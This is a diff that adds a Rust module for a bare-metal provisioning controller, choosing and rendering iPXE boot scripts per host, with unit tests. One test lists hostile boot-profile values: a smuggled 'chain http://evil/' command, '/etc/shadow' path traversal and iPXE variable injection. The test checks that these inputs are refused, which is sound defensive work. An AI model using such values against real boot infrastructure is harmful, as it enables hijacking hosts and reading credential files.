@@ -1,0 +1,553 @@
+//! Which iPXE script a host gets, decided purely from the host, its MetalMachine and the boot
+//! Secret of the current attempt; and the rendering of `ipxe/*.ipxe.j2`.
+
+use minijinja::{Environment, context};
+
+use crate::api::metalhost::HostState;
+use crate::api::{MetalHost, MetalMachine};
+
+use super::tokens::BootRecord;
+
+/// Tries a script makes before giving up on a flaky link.
+pub const FETCH_RETRIES: u32 = 5;
+/// Seconds between tries.
+pub const RETRY_DELAY_SECONDS: u32 = 5;
+/// Times an unknown host asks again before booting its next device.
+pub const UNKNOWN_HOST_ATTEMPTS: u32 = 3;
+/// Seconds an unknown host waits before asking again.
+pub const UNKNOWN_HOST_DELAY_SECONDS: u32 = 20;
+
+/// The iPXE templates, compiled once.
+pub struct Templates {
+    env: Environment<'static>,
+}
+
+impl Templates {
+    pub fn new() -> Result<Self, minijinja::Error> {
+        let mut env = Environment::new();
+        env.set_trim_blocks(true);
+        env.add_template("boot", include_str!("../../ipxe/boot.ipxe.j2"))?;
+        env.add_template("provision", include_str!("../../ipxe/provision.ipxe.j2"))?;
+        env.add_template("exit", include_str!("../../ipxe/exit.ipxe.j2"))?;
+        env.add_template("unknown", include_str!("../../ipxe/unknown.ipxe.j2"))?;
+        env.add_template("error", include_str!("../../ipxe/error.ipxe.j2"))?;
+        env.add_template("vendor-data", include_str!("vendor-data.sh.j2"))?;
+        Ok(Self { env })
+    }
+
+    pub fn entry_script(&self, base_url: &str) -> Result<String, minijinja::Error> {
+        self.env.get_template("boot")?.render(context! {
+            base_url, retries => FETCH_RETRIES, delay => RETRY_DELAY_SECONDS,
+        })
+    }
+
+    pub fn host_script(
+        &self,
+        script: &HostScript,
+        base_url: &str,
+    ) -> Result<String, minijinja::Error> {
+        match script {
+            HostScript::Provision(p) => self.env.get_template("provision")?.render(context! {
+                host => p.host, namespace => p.namespace, machine => p.machine, attempt => p.attempt,
+                kernel_url => p.kernel_url, cmdline => p.cmdline,
+                initrds => p.initrds.iter().map(|(name, url)| context! { name, url }).collect::<Vec<_>>(),
+                retries => FETCH_RETRIES, delay => RETRY_DELAY_SECONDS,
+            }),
+            HostScript::Idle { host, state } => self
+                .env
+                .get_template("exit")?
+                .render(context! { host, state }),
+            HostScript::Unknown { mac, attempt } => self.env.get_template("unknown")?.render(context! {
+                mac, attempt, base_url, max_attempts => UNKNOWN_HOST_ATTEMPTS, delay => UNKNOWN_HOST_DELAY_SECONDS,
+            }),
+            HostScript::Refused { host, reason } => self
+                .env
+                .get_template("error")?
+                .render(context! { host, reason }),
+        }
+    }
+
+    pub fn vendor_data(
+        &self,
+        callback_url: &str,
+        wait_seconds: u32,
+    ) -> Result<String, minijinja::Error> {
+        self.env
+            .get_template("vendor-data")?
+            .render(context! { callback_url, wait_seconds })
+    }
+}
+
+/// What to tell a host that asked for its script.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum HostScript {
+    /// Boot the provisioning kernel.
+    Provision(ProvisionPlan),
+    /// Known host, nothing to provision: boot the next device.
+    Idle { host: String, state: String },
+    /// No MetalHost has this MAC.
+    Unknown { mac: String, attempt: u32 },
+    /// Provisioning, but the boot profile cannot be rendered safely.
+    Refused { host: String, reason: String },
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ProvisionPlan {
+    pub host: String,
+    pub namespace: String,
+    pub machine: String,
+    pub attempt: u32,
+    pub kernel_url: String,
+    /// (iPXE image name, URL), in load order.
+    pub initrds: Vec<(String, String)>,
+    /// The profile's command line with the NoCloud datasource appended.
+    pub cmdline: String,
+}
+
+/// `52-54-00-AB-cd-01` or `52:54:00:ab:cd:01` → `52:54:00:ab:cd:01`; anything else → None.
+pub fn normalize_mac(raw: &str) -> Option<String> {
+    let parts: Vec<&str> = raw.split(['-', ':']).collect();
+    if parts.len() != 6
+        || parts
+            .iter()
+            .any(|p| p.len() != 2 || !p.chars().all(|c| c.is_ascii_hexdigit()))
+    {
+        return None;
+    }
+    Some(parts.join(":").to_ascii_lowercase())
+}
+
+/// Characters that would let a value change the meaning of an iPXE command line.
+fn unsafe_for_ipxe(value: &str) -> bool {
+    value.contains("${")
+        || value
+            .chars()
+            .any(|c| c.is_control() || c == '"' || c == '\'' || c == '\\')
+}
+
+/// An artifact location from a boot profile as a URL the host can fetch.
+fn artifact_url(location: &str, base_url: &str) -> Result<String, String> {
+    if location.is_empty() || location.chars().any(char::is_whitespace) || unsafe_for_ipxe(location)
+    {
+        return Err(format!(
+            "boot location {location:?} is empty or has characters iPXE would misread"
+        ));
+    }
+    if location.starts_with("http://") || location.starts_with("https://") {
+        return Ok(location.to_string());
+    }
+    if location.starts_with('/') || location.split('/').any(|seg| seg == "..") {
+        return Err(format!(
+            "boot location {location:?} must be an http(s) URL or a relative artifact path"
+        ));
+    }
+    Ok(format!("{base_url}/artifacts/{location}"))
+}
+
+/// The NoCloud seed URL of an attempt.
+pub fn nocloud_url(base_url: &str, token: &str) -> String {
+    format!("{base_url}/nocloud/{token}/")
+}
+
+/// Decides the script for the host that asked with `mac`. `host` is the MetalHost with that boot
+/// MAC (if any), `machine` its consumer, `record` the consumer's current attempt.
+pub fn choose_script(
+    mac: &str,
+    attempt: u32,
+    host: Option<&MetalHost>,
+    machine: Option<&MetalMachine>,
+    record: Option<&BootRecord>,
+    base_url: &str,
+) -> HostScript {
+    let Some(host) = host else {
+        return HostScript::Unknown {
+            mac: mac.to_string(),
+            attempt: attempt.clamp(1, UNKNOWN_HOST_ATTEMPTS),
+        };
+    };
+    let host_name = host.metadata.name.clone().unwrap_or_default();
+    let state = host
+        .status
+        .as_ref()
+        .and_then(|s| s.state)
+        .unwrap_or_default();
+    let idle = |why: &str| HostScript::Idle {
+        host: host_name.clone(),
+        state: why.to_string(),
+    };
+    // Only a host that is provisioning, for the consumer the boot Secret names, whose attempt has
+    // not called back yet, gets a kernel. Everything else boots its disk.
+    if state != HostState::Provisioning {
+        return idle(&format!("{state:?}"));
+    }
+    let (Some(machine), Some(record)) = (machine, record) else {
+        return idle("Provisioning but not yet ready to boot");
+    };
+    let consumer = host.status.as_ref().and_then(|s| s.consumer_ref.as_ref());
+    let machine_name = machine.metadata.name.clone().unwrap_or_default();
+    if consumer.map(|c| c.name.as_str()) != Some(machine_name.as_str())
+        || record.metal_machine != machine_name
+        || record.host != host_name
+    {
+        return idle("claimed by another machine");
+    }
+    if record.callback.is_some() {
+        return idle("already bootstrapped");
+    }
+    let profile = &machine.spec.boot;
+    let plan = (|| {
+        let kernel_url = artifact_url(&profile.kernel, base_url)?;
+        let initrds = profile
+            .initrds
+            .iter()
+            .enumerate()
+            .map(|(i, loc)| artifact_url(loc, base_url).map(|url| (format!("initrd{i}"), url)))
+            .collect::<Result<Vec<_>, _>>()?;
+        let user_cmdline = profile.cmdline.clone().unwrap_or_default();
+        if unsafe_for_ipxe(&user_cmdline) {
+            return Err("the boot profile's cmdline has characters iPXE would misread".to_string());
+        }
+        let datasource = format!(
+            "ds=nocloud;s={}",
+            nocloud_url(base_url, record.token.expose())
+        );
+        let cmdline = [user_cmdline.trim(), datasource.as_str()]
+            .iter()
+            .filter(|s| !s.is_empty())
+            .copied()
+            .collect::<Vec<_>>()
+            .join(" ");
+        Ok(ProvisionPlan {
+            host: host_name.clone(),
+            namespace: record.namespace.clone(),
+            machine: machine_name.clone(),
+            attempt: record.attempt,
+            kernel_url,
+            initrds,
+            cmdline,
+        })
+    })();
+    match plan {
+        Ok(plan) => HostScript::Provision(plan),
+        Err(reason) => HostScript::Refused {
+            host: host_name,
+            reason,
+        },
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::api::metalhost::{BmcDetails, ConsumerReference, MetalHostSpec, MetalHostStatus};
+    use crate::api::metalmachine::{BootProfile, MetalMachineSpec};
+    use crate::boot::tokens::{NewAttempt, new_boot_secret, parse_boot_secret};
+    use k8s_openapi::apimachinery::pkg::apis::meta::v1::OwnerReference;
+
+    const BASE: &str = "http://10.0.2.2:8080";
+
+    fn host(state: HostState, consumer: Option<&str>) -> MetalHost {
+        let mut h = MetalHost::new(
+            "host-0",
+            MetalHostSpec {
+                bmc: BmcDetails {
+                    address: "redfish://bmc/redfish/v1/Systems/1".into(),
+                    credentials_name: "creds".into(),
+                    disable_certificate_verification: None,
+                    ca_secret_name: None,
+                },
+                boot_mac_address: "52:54:00:AA:bb:01".into(),
+                boot_mode: None,
+                online: true,
+                description: None,
+            },
+        );
+        h.status = Some(MetalHostStatus {
+            state: Some(state),
+            consumer_ref: consumer.map(|name| ConsumerReference {
+                api_version: "infrastructure.cluster.x-k8s.io/v1alpha1".into(),
+                kind: "MetalMachine".into(),
+                name: name.into(),
+                uid: "uid".into(),
+            }),
+            ..Default::default()
+        });
+        h
+    }
+
+    fn machine(kernel: &str, initrds: &[&str], cmdline: Option<&str>) -> MetalMachine {
+        MetalMachine::new(
+            "m1",
+            MetalMachineSpec {
+                boot: BootProfile {
+                    kernel: kernel.into(),
+                    initrds: initrds.iter().map(|s| s.to_string()).collect(),
+                    cmdline: cmdline.map(String::from),
+                },
+                ..Default::default()
+            },
+        )
+    }
+
+    fn record(machine: &str, host: &str) -> BootRecord {
+        parse_boot_secret(&new_boot_secret(&NewAttempt {
+            namespace: "ns",
+            metal_machine: machine,
+            owner: OwnerReference {
+                api_version: "infrastructure.cluster.x-k8s.io/v1alpha1".into(),
+                kind: "MetalMachine".into(),
+                name: machine.into(),
+                uid: "uid".into(),
+                ..Default::default()
+            },
+            cluster_name: None,
+            host,
+            attempt: 1,
+            provider_id: "metalboot://ns/host-0",
+            user_data: b"#!/bin/sh",
+        }))
+        .expect("record")
+    }
+
+    #[test]
+    fn macs_normalise_from_either_notation() {
+        assert_eq!(
+            normalize_mac("52-54-00-AA-bb-01").as_deref(),
+            Some("52:54:00:aa:bb:01")
+        );
+        assert_eq!(
+            normalize_mac("52:54:00:aa:bb:01").as_deref(),
+            Some("52:54:00:aa:bb:01")
+        );
+        for bad in [
+            "",
+            "52-54-00-aa-bb",
+            "52-54-00-aa-bb-01-02",
+            "zz-54-00-aa-bb-01",
+            "525400aabb01",
+            "5-54-00-aa-bb-011",
+        ] {
+            assert_eq!(normalize_mac(bad), None, "{bad}");
+        }
+    }
+
+    #[test]
+    fn script_choice_table() {
+        let good = machine("vmlinuz", &["initrd.gz"], Some("console=ttyS0"));
+        let rec = record("m1", "host-0");
+        let mut spent = rec.clone();
+        spent.callback = Some(crate::boot::tokens::CallbackRecord {
+            hostname: None,
+            addresses: vec![],
+            source_ip: None,
+            received_at: "now".into(),
+        });
+        let provisioning = host(HostState::Provisioning, Some("m1"));
+        let other_machine = record("m2", "host-0");
+        let other_host = record("m1", "host-9");
+        type Case<'a> = (
+            &'a str,
+            Option<MetalHost>,
+            Option<&'a MetalMachine>,
+            Option<&'a BootRecord>,
+            &'a str,
+        );
+        let cases: Vec<Case> = vec![
+            ("unknown MAC", None, None, None, "Unknown"),
+            (
+                "available host",
+                Some(host(HostState::Available, None)),
+                None,
+                None,
+                "Idle",
+            ),
+            (
+                "provisioned host",
+                Some(host(HostState::Provisioned, Some("m1"))),
+                Some(&good),
+                Some(&rec),
+                "Idle",
+            ),
+            (
+                "provisioning without a boot Secret yet",
+                Some(provisioning.clone()),
+                Some(&good),
+                None,
+                "Idle",
+            ),
+            (
+                "provisioning, attempt current",
+                Some(provisioning.clone()),
+                Some(&good),
+                Some(&rec),
+                "Provision",
+            ),
+            (
+                "provisioning, already called back",
+                Some(provisioning.clone()),
+                Some(&good),
+                Some(&spent),
+                "Idle",
+            ),
+            (
+                "boot Secret of another machine",
+                Some(provisioning.clone()),
+                Some(&good),
+                Some(&other_machine),
+                "Idle",
+            ),
+            (
+                "boot Secret for another host",
+                Some(provisioning.clone()),
+                Some(&good),
+                Some(&other_host),
+                "Idle",
+            ),
+            (
+                "host claimed by someone else",
+                Some(host(HostState::Provisioning, Some("other"))),
+                Some(&good),
+                Some(&rec),
+                "Idle",
+            ),
+        ];
+        for (what, h, m, r, want) in cases {
+            let got = choose_script("52:54:00:aa:bb:01", 1, h.as_ref(), m, r, BASE);
+            let kind = match got {
+                HostScript::Provision(_) => "Provision",
+                HostScript::Idle { .. } => "Idle",
+                HostScript::Unknown { .. } => "Unknown",
+                HostScript::Refused { .. } => "Refused",
+            };
+            assert_eq!(kind, want, "{what}");
+        }
+    }
+
+    #[test]
+    fn provisioning_plan_resolves_artifacts_and_appends_the_datasource() {
+        let rec = record("m1", "host-0");
+        let m = machine(
+            "vmlinuz",
+            &["initrd.gz", "https://mirror.example/extra.img"],
+            Some(" console=ttyS0 "),
+        );
+        let HostScript::Provision(plan) = choose_script(
+            "m",
+            1,
+            Some(&host(HostState::Provisioning, Some("m1"))),
+            Some(&m),
+            Some(&rec),
+            BASE,
+        ) else {
+            panic!("expected a provisioning script");
+        };
+        assert_eq!(plan.kernel_url, "http://10.0.2.2:8080/artifacts/vmlinuz");
+        assert_eq!(
+            plan.initrds,
+            vec![
+                (
+                    "initrd0".to_string(),
+                    "http://10.0.2.2:8080/artifacts/initrd.gz".to_string()
+                ),
+                (
+                    "initrd1".to_string(),
+                    "https://mirror.example/extra.img".to_string()
+                ),
+            ]
+        );
+        assert_eq!(
+            plan.cmdline,
+            format!(
+                "console=ttyS0 ds=nocloud;s=http://10.0.2.2:8080/nocloud/{}/",
+                rec.token.expose()
+            )
+        );
+        let script = Templates::new()
+            .expect("templates")
+            .host_script(&HostScript::Provision(plan), BASE)
+            .expect("render");
+        assert!(script.starts_with("#!ipxe\n"), "{script}");
+        assert!(script.contains("kernel http://10.0.2.2:8080/artifacts/vmlinuz initrd=initrd0 initrd=initrd1 console=ttyS0 ds=nocloud;s="), "{script}");
+        assert!(
+            script.contains("initrd --name initrd1 https://mirror.example/extra.img"),
+            "{script}"
+        );
+    }
+
+    #[test]
+    fn hostile_boot_profiles_are_refused_not_rendered() {
+        let rec = record("m1", "host-0");
+        let h = host(HostState::Provisioning, Some("m1"));
+        for m in [
+            machine("vmlinuz", &[], Some("console=ttyS0 ${net0/ip}")),
+            machine("vmlinuz", &[], Some("a\nchain http://evil/")),
+            machine("/etc/shadow", &[], None),
+            machine("../../etc/shadow", &[], None),
+            machine("vmlinuz", &["a b"], None),
+            machine("http://x/\"k", &[], None),
+        ] {
+            let got = choose_script("m", 1, Some(&h), Some(&m), Some(&rec), BASE);
+            assert!(
+                matches!(got, HostScript::Refused { .. }),
+                "{:?} → {got:?}",
+                m.spec.boot
+            );
+        }
+    }
+
+    #[test]
+    fn unknown_hosts_ask_a_few_times_then_exit() {
+        let t = Templates::new().expect("templates");
+        let first = t
+            .host_script(
+                &HostScript::Unknown {
+                    mac: "52:54:00:aa:bb:01".into(),
+                    attempt: 1,
+                },
+                BASE,
+            )
+            .expect("render");
+        assert!(first.contains("sleep 20"), "{first}");
+        assert!(first.contains("?attempt=2"), "{first}");
+        let last = t
+            .host_script(
+                &HostScript::Unknown {
+                    mac: "52:54:00:aa:bb:01".into(),
+                    attempt: UNKNOWN_HOST_ATTEMPTS,
+                },
+                BASE,
+            )
+            .expect("render");
+        assert!(
+            !last.contains("chain"),
+            "the last ask must not chain again: {last}"
+        );
+        assert!(last.trim_end().ends_with("exit"), "{last}");
+        // A forged attempt number cannot make the loop longer or tighter.
+        let forged = choose_script("m", 0, None, None, None, BASE);
+        assert_eq!(
+            forged,
+            HostScript::Unknown {
+                mac: "m".into(),
+                attempt: 1
+            }
+        );
+    }
+
+    #[test]
+    fn the_entry_script_chains_by_mac_with_bounded_retries() {
+        let script = Templates::new()
+            .expect("templates")
+            .entry_script(BASE)
+            .expect("render");
+        assert!(
+            script.contains("chain --autofree http://10.0.2.2:8080/ipxe/${mac:hexhyp}"),
+            "{script}"
+        );
+        assert!(
+            script.contains(&format!("iseq ${{metalboot-try}} {FETCH_RETRIES}")),
+            "{script}"
+        );
+        assert!(script.contains("sleep 5"), "{script}");
+    }
+}
